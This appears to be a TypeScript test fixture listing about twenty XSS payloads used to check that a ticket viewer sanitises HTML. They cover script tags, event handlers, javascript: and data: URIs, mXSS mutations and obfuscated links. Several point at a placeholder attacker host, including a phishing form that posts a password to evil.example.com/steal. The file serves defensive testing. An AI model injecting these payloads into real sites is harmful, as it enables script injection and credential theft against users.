/**
 * XSS payloads served as `htmlMessage` of tickets HOSTILE_TICKET_ID_FIRST onwards, in this order
 * (the README lists the ids). Each would run script, leak data or restyle the page if rendered
 * unsanitized; every payload that could run calls `alert('xss-…')` so a test can spot it.
 */
export const hostilePayloads: readonly { title: string; html: string }[] = [
  { title: 'script tag', html: `<script>alert('xss-script')</script>` },
  { title: 'img onerror', html: `<img src="x" onerror="alert('xss-img')">` },
  { title: 'javascript: link', html: `<a href="javascript:alert('xss-link')">Open my order</a>` },
  { title: 'svg onload', html: `<svg onload="alert('xss-svg')"><circle r="10"></circle></svg>` },
  { title: 'iframe', html: `<iframe src="https://evil.example.com/frame"></iframe>` },
  { title: 'style tag', html: `<style>body{display:none}</style>` },
  {
    title: 'phishing form',
    html: `<form action="https://evil.example.com/steal"><input type="password" name="password"><button>Log in again</button></form>`,
  },
  {
    title: 'meta refresh',
    html: `<meta http-equiv="refresh" content="0;url=https://evil.example.com/">`,
  },
  { title: 'base tag', html: `<base href="https://evil.example.com/"><a href="/help">Help</a>` },
  {
    title: 'data: URI link',
    html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==">See details</a>`,
  },
  {
    title: 'data: URI svg image',
    html: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KCd4c3MtZGF0YS1zdmcnKSI+PC9zdmc+">`,
  },
  {
    title: 'inline style and onclick',
    html: `<div style="position:fixed;inset:0;background:red" onclick="alert('xss-click')" data-track="1">Click anywhere</div>`,
  },
  {
    title: 'object and embed',
    html: `<object data="https://evil.example.com/x.swf"></object><embed src="https://evil.example.com/x.swf">`,
  },
  { title: 'external stylesheet', html: `<link rel="stylesheet" href="https://evil.example.com/x.css">` },
  {
    title: 'mXSS via math/style',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="alert('xss-mxss')">`,
  },
  {
    title: 'noscript mutation',
    html: `<noscript><p title="</noscript><img src=x onerror=alert('xss-noscript')>"></noscript>`,
  },
  {
    title: 'obfuscated javascript: links',
    html: `<a href="JaVaScRiPt:alert('xss-case')">one</a> <a href="&#106;avascript:alert('xss-entity')">two</a> <a href=" javascript:alert('xss-space')">three</a>`,
  },
  {
    title: 'tabnabbing link',
    html: `<a href="https://example.com/offer" target="_blank">Claim your refund</a>`,
  },
  {
    title: 'event handlers on media',
    html: `<details open ontoggle="alert('xss-toggle')"><summary>More</summary></details><video><source onerror="alert('xss-video')"></video>`,
  },
  {
    title: "<img src=x onerror=alert('xss-title')> in the title",
    html: `<p>The title and author name of this ticket hold markup; both must render as text.</p>`,
  },
];
